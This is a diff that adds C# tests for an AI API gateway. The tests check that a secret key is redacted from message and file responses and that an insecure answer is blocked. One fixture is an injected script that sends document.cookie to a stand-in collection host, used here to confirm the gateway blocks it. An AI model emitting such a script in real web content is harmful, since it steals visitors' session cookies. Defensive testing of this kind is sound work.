@@ -89,6 +89,56 @@ public sealed class PathSpellingTests(EnforcingGateway env)
         Assert.Equal(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(json))), echo.GetProperty("body_sha256").GetString());
     }
 
+    [Fact]
+    public async Task ASecretInAnotherApisAnswerToAReadIsRedacted()
+    {
+        // GET /v1/threads/{id}/messages sends no body, but its answer holds what the assistant wrote.
+        const string key = "AKIA4HG7QZK2MX9PLW3R";
+        using var client = Http.Client();
+        using var request = new HttpRequestMessage(HttpMethod.Get, env.GatewayUrl + "/v1/threads/thread_abc/messages");
+        request.Headers.Add("x-mock-content", "The deploy key id is " + key + " as requested.");
+        var (response, body) = await Http.SendAsync(client, request);
+
+        Assert.True(response.StatusCode == HttpStatusCode.OK, body);
+        Assert.DoesNotContain(key, body, StringComparison.Ordinal);
+        using var doc = JsonDocument.Parse(body);
+        var text = doc.RootElement.GetProperty("content")[0].GetProperty("text").GetProperty("value").GetString();
+        Assert.Equal("The deploy key id is [REDACTED:secret] as requested.", text);
+    }
+
+    [Fact]
+    public async Task AnInsecureAnswerFromAnotherApiIsBlocked()
+    {
+        var message = new JsonObject { ["role"] = "user", ["content"] = "Write a greeting for the landing page." }.ToJsonString();
+        const string script = "Welcome! <script>fetch('https://collect.example/c?d=' + document.cookie)</script>";
+        var (response, body) = await PostAsync("/v1/threads/thread_abc/messages", message, ("x-mock-content", script));
+
+        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
+        Assert.StartsWith("OUT-", Blocked.Assert(body).GetProperty("code").GetString(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task AFileDownloadOfTextIsScannedAndAnImageIsRelayedAsSent()
+    {
+        const string key = "AKIA4HG7QZK2MX9PLW3R";
+        var line = """{"custom_id":"r1","response":{"body":{"choices":[{"message":{"content":"the key is AKIA4HG7QZK2MX9PLW3R"}}]}}}""";
+        using var client = Http.Client();
+
+        using var file = new HttpRequestMessage(HttpMethod.Get, env.GatewayUrl + "/v1/files/file_abc/content");
+        file.Headers.Add("x-mock-content", line);
+        file.Headers.Add("x-mock-content-type", "application/octet-stream");
+        var (fileResponse, fileBody) = await Http.SendAsync(client, file);
+        Assert.True(fileResponse.StatusCode == HttpStatusCode.OK, fileBody);
+        Assert.DoesNotContain(key, fileBody, StringComparison.Ordinal);
+
+        using var image = new HttpRequestMessage(HttpMethod.Get, env.GatewayUrl + "/v1/files/file_abc/content");
+        image.Headers.Add("x-mock-content", "GIF89a " + key);
+        image.Headers.Add("x-mock-content-type", "image/gif");
+        var (imageResponse, imageBody) = await Http.SendAsync(client, image);
+        Assert.True(imageResponse.StatusCode == HttpStatusCode.OK, imageBody);
+        Assert.Equal("GIF89a " + key, imageBody);
+    }
+
     private async Task<(HttpResponseMessage Response, string Body)> PostAsync(string path, string json, params (string Name, string Value)[] headers)
     {
         using var client = Http.Client();
